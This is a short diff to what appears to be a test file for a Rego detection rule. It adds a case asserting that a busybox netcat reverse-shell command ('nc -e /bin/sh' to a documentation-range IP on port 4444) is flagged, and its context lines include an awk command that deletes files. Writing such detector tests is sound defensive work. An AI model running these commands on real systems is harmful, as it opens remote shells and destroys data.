@@ -75,3 +75,8 @@ test_awk_sockets_and_shells if {
 	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/awk", ["awk", "{system(\"rm \" $1)}"])
 	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/awk", ["awk", "{print $1}", "/tmp/shell.log"])
 }
+
+test_busybox_nc_exec_is_a_reverse_shell if {
+	ev := fx.container_exec("/bin/busybox", ["busybox", "nc", "-e", "/bin/sh", "203.0.113.7", "4444"])
+	count(rule.hits) == 1 with input as ev
+}
